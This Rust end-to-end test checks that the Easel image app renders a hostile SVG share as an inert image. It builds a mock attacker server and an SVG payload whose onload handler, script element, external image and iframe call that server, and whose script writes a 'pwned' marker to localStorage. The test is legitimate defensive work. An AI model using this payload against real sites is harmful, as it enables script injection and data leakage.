//! A hostile SVG — a script element, an `onload` handler, an external image and an iframe, all
//! calling a server of the attacker's — arrives as a stranger's hosted share. Easel shows it as
//! the image it is (in the shared view, saved into the gallery, in the lightbox, opened from its
//! `blob:` URL in a tab of its own, and as the relay serves it) and none of its script runs
//! and nothing it names is fetched. The control proves the same file does call out when a
//! server without these defences serves it as a document.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use easel_e2e::browser::WAIT;
use easel_e2e::{Browser, Relay, dist_dir};
use serde_json::{Value, json};

/// A server of the attacker's: records the path of every request and serves the hostile SVG
/// at `/svg` as a document (`image/svg+xml`, no policy).
struct Attacker {
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Attacker {
    fn start() -> Attacker {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port for the attacker");
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let record = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let record = record.clone();
                std::thread::spawn(move || serve(stream, port, &record));
            }
        });
        Attacker { port, seen }
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

fn serve(mut stream: TcpStream, port: u16, seen: &Mutex<Vec<String>>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() {
        return;
    }
    let path = line.split_whitespace().nth(1).unwrap_or("").to_owned();
    seen.lock().unwrap().push(path.clone());
    let (kind, body) = if path == "/svg" {
        ("image/svg+xml", hostile_svg(port))
    } else {
        ("text/plain", "ok".to_owned())
    };
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nAccess-Control-Allow-Origin: *\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
}

/// Every way an SVG can run script or fetch, each naming itself in the attacker's log.
fn hostile_svg(port: u16) -> String {
    let at = format!("http://127.0.0.1:{port}");
    format!(
        r##"<svg xmlns="http://www.w3.org/2000/svg" width="96" height="64" viewBox="0 0 96 64" onload="fetch('{at}/onload')">
<script>fetch('{at}/script'); localStorage.setItem('pwned', location.href);</script>
<rect width="96" height="64" fill="#c0392b"/>
<image href="{at}/image.png" width="8" height="8"/>
<foreignObject width="96" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{at}/iframe"></iframe></foreignObject>
</svg>"##
    )
}

/// Posts a hosted share of `svg` to the relay from the page, as any client could; its link.
async fn share_from_a_stranger(browser: &Browser, svg: &str) -> Value {
    let script = r#"
        const [svg, done] = [arguments[0], arguments[arguments.length - 1]];
        (async () => {
            const bytes = new TextEncoder().encode(svg);
            const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
            const sha256 = [...digest].map(b => b.toString(16).padStart(2, '0')).join('');
            const manifest = { format: 'easel-share', version: 1, title: 'free wallpapers',
                created_ms: Date.now(), items: [{ prompt: 'a red card', model: 'gpt-image-2.6',
                request: { model: 'gpt-image-2.6', prompt: 'a red card', output_format: 'svg' },
                width: 96, height: 64, mime: 'image/svg+xml', made_by: 'generation', sha256 }] };
            const form = new FormData();
            form.append('manifest', JSON.stringify(manifest));
            form.append('image', new Blob([bytes]), 'card.svg');
            const answer = await fetch('/v1/shares', { method: 'POST', body: form });
            return { status: answer.status, body: await answer.json(), sha256 };
        })().then(done, e => done({ error: String(e) }));
    "#;
    browser
        .client()
        .execute_async(script, vec![json!(svg)])
        .await
        .expect("share script")
}

/// Opens the `src` of the image `css` finds in a new tab, as "Open image in new tab" does,
/// gives it time to run, and comes back.
async fn open_in_a_tab_of_its_own(browser: &Browser, css: &str) {
    let url = browser
        .execute(
            &format!("return document.querySelector('{css}').src;"),
            vec![],
        )
        .await;
    let url = url.as_str().expect("the image's URL").to_owned();
    assert!(url.starts_with("blob:"), "{url}");
    let page = browser.client().window().await.expect("this tab");
    let tab = browser
        .client()
        .new_window(true)
        .await
        .expect("a new tab")
        .handle;
    browser.client().switch_to_window(tab).await.expect("tab");
    browser.goto(&url).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    browser.client().close_window().await.expect("close tab");
    browser
        .client()
        .switch_to_window(page)
        .await
        .expect("back to the page");
}

#[tokio::test]
async fn a_hostile_svg_in_a_share_shows_as_an_image_and_runs_nothing() {
    let attacker = Attacker::start();
    let svg = hostile_svg(attacker.port);
    let relay = Relay::start(&dist_dir(), &["--latency-ms", "0"]);
    let browser = Browser::start().await;

    // The control: served as a document by a server without these defences, the same file
    // runs its script and fetches what it names.
    browser
        .goto(&format!("http://127.0.0.1:{}/svg", attacker.port))
        .await;
    browser
        .wait_until_js(
            "performance.getEntriesByType('resource').some(e => e.name.endsWith('/script'))",
            WAIT,
        )
        .await;
    let control = attacker.seen();
    assert!(
        control.iter().any(|p| p == "/script") && control.iter().any(|p| p == "/onload"),
        "the control runs the SVG's script: {control:?}"
    );
    attacker.seen.lock().unwrap().clear();

    browser.goto(&relay.at("/")).await;
    let created = share_from_a_stranger(&browser, &svg).await;
    assert_eq!(created["status"], 201, "{created}");
    let link = created["body"]["link"].as_str().expect("a link").to_owned();
    let image_url = format!(
        "{}/images/{}",
        created["body"]["url"].as_str().unwrap(),
        created["sha256"].as_str().unwrap()
    );

    // The shared view shows it as an image.
    browser.goto(&link).await;
    let shown = "(() => { const i = document.querySelector('img.shared-image'); \
                 return !!i && i.complete && i.naturalWidth === 96 && i.src.startsWith('blob:'); })()";
    browser.wait_until_js(shown, WAIT).await;
    // Opened from its blob: URL in a tab of its own (the URL lives while the view does).
    open_in_a_tab_of_its_own(&browser, "img.shared-image").await;
    // Saved into the gallery and opened in the lightbox.
    browser.click("#shared-save").await;
    browser
        .wait_for_text("#shared-saved", "Saved 1 image", WAIT)
        .await;
    browser.goto(&relay.at("/gallery")).await;
    browser
        .wait_until_js(
            "(() => { const i = document.querySelector('.grid-cell img.thumb'); \
             return !!i && i.complete && i.naturalWidth > 0; })()",
            WAIT,
        )
        .await;
    browser.click(".grid-cell .cell-open").await;
    browser
        .wait_until_js(
            "(() => { const i = document.querySelector('img.lightbox-image'); \
             return !!i && i.complete && i.naturalWidth > 0; })()",
            WAIT,
        )
        .await;
    open_in_a_tab_of_its_own(&browser, "img.lightbox-image").await;

    // As the relay serves it, on its own: sandboxed, typed by its bytes.
    browser.goto(&image_url).await;
    tokio::time::sleep(Duration::from_millis(500)).await;

    browser.goto(&relay.at("/")).await;
    let pwned = browser
        .execute("return localStorage.getItem('pwned');", vec![])
        .await;
    assert_eq!(
        pwned,
        Value::Null,
        "the SVG's script ran on the app's origin"
    );
    assert_eq!(
        attacker.seen(),
        Vec::<String>::new(),
        "the SVG reached its author's server"
    );
    assert_eq!(browser.count("#crash-notice").await, 0);
    browser.close().await;
}
